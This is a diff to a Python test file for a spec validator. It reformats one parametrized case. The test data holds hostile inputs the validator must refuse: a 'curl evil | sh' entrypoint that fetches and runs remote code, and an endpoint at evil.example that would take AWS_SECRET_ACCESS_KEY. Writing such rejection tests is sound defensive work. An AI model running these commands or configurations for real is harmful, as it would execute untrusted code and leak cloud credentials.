@@ -67,7 +67,10 @@ def test_a_symlink_inside_the_prefix_cannot_point_out_of_it(tmp_path):
         ("runtime_env: {pip: [evil]}\n", "invalid_spec"),
         ("entrypoint: 'curl evil | sh'\n", "invalid_spec"),
         ("ray: {address: 'ray://other-cluster:10001'}\n", "forbidden_key"),
-        ("invert: {endpoint: {base_url: 'https://evil.example', model: m, api_key_env: AWS_SECRET_ACCESS_KEY}}\n", "forbidden_key"),
+        (
+            "invert: {endpoint: {base_url: 'https://evil.example', model: m, api_key_env: AWS_SECRET_ACCESS_KEY}}\n",
+            "forbidden_key",
+        ),
     ],
 )
 def test_unregistered_handlers_and_platform_keys_are_refused(spec, code):
